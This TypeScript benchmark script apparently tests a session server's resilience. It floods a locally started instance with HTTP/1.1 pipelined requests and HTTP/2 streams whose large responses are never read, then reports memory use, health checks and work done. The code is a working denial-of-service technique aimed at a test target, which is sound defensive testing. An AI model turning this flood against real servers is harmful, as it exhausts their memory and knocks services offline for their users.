import * as http2 from "node:http2";
import * as net from "node:net";
import { probe, startTarget } from "./memory-target.js";

/**
 * Clients that do not read their answers, against SESSIONS small sessions (one
 * page_size=1000 list is about 0.2 MB):
 * 1. one HTTP/1.1 connection pipelining PIPELINED lists without reading;
 * 2. H2_CONNECTIONS HTTP/2 connections each opening H2_STREAMS such lists, never reading.
 * Each is held HOLD_S seconds; prints how many lists the server computed, its RSS and a
 * /healthz on a fresh connection.
 *   node --import tsx bench/attacks/unread-answers.ts      (ATTACK_TREE=<checkout> for another tree)
 */
const SESSIONS = Number(process.env.SESSIONS ?? 500);
const PIPELINED = Number(process.env.PIPELINED ?? 2000);
const H2_CONNECTIONS = Number(process.env.H2_CONNECTIONS ?? 10);
const H2_STREAMS = Number(process.env.H2_STREAMS ?? 100);
const HOLD_S = Number(process.env.HOLD_S ?? 6);
const LIST = "/v1/sessions?page_size=1000";

const target = await startTarget({ sessions: SESSIONS, sessionBytes: 0 });
/** ListSessions calls the server has finished, from /metrics (which may wait while it is flooded). */
const lists = async (): Promise<number> => {
  let text;
  try {
    text = await (await fetch(`${target.url}/metrics`, { signal: AbortSignal.timeout(60_000), headers: { connection: "close" } })).text();
  } catch {
    return NaN;
  }
  return [...text.matchAll(/^sessions_rpc_requests_total\{[^}]*ListSessions[^}]*\} (\d+)/gm)].reduce((n, m) => n + Number(m[1]), 0);
};
const pageBytes = (await (await fetch(`http://127.0.0.1:${target.port}${LIST}`)).arrayBuffer()).byteLength;
console.log(`${SESSIONS} sessions, a page is ${(pageBytes / 1e6).toFixed(2)} MB; RSS ${JSON.stringify(target.rss())}`);
try {
  const socket = net.connect(target.port, "127.0.0.1");
  socket.on("error", () => {});
  socket.pause();
  socket.write(`GET ${LIST} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`.repeat(PIPELINED));
  const before = await lists();
  for (let s = 1; s <= HOLD_S; s++) {
    await new Promise((resolve) => setTimeout(resolve, 1000));
    if (s % 2 === 0) {
      console.log(`pipelining ${PIPELINED}, ${s} s: RSS ${JSON.stringify(target.rss())}; /healthz ${await probe(target.url)}`);
    }
  }
  socket.destroy();
  console.log(`pipelining: ${(await lists()) - before} lists computed in all for a client that read none`);

  const sessions: http2.ClientHttp2Session[] = [];
  const resets = new Map<number, number>();
  const before2 = await lists();
  for (let c = 0; c < H2_CONNECTIONS; c++) {
    const session = http2.connect(target.url);
    session.on("error", () => {});
    sessions.push(session);
    for (let i = 0; i < H2_STREAMS; i++) {
      const stream = session.request({ ":path": LIST });
      stream.pause();
      stream.on("error", () => {});
      stream.on("close", () => resets.set(stream.rstCode, (resets.get(stream.rstCode) ?? 0) + 1));
    }
  }
  for (let s = 1; s <= HOLD_S; s++) {
    await new Promise((resolve) => setTimeout(resolve, 1000));
    if (s % 2 === 0) {
      console.log(
        `${H2_CONNECTIONS} h2 connections x ${H2_STREAMS} unread lists, ${s} s: ` +
          `streams closed by code ${JSON.stringify(Object.fromEntries(resets))}; RSS ${JSON.stringify(target.rss())}; /healthz ${await probe(target.url)}`,
      );
    }
  }
  for (const session of sessions) session.destroy();
  console.log(`h2: ${(await lists()) - before2} lists computed`);
} finally {
  console.log(`final peak RSS ${target.rss().peakMb} MB`);
  await target.close();
}
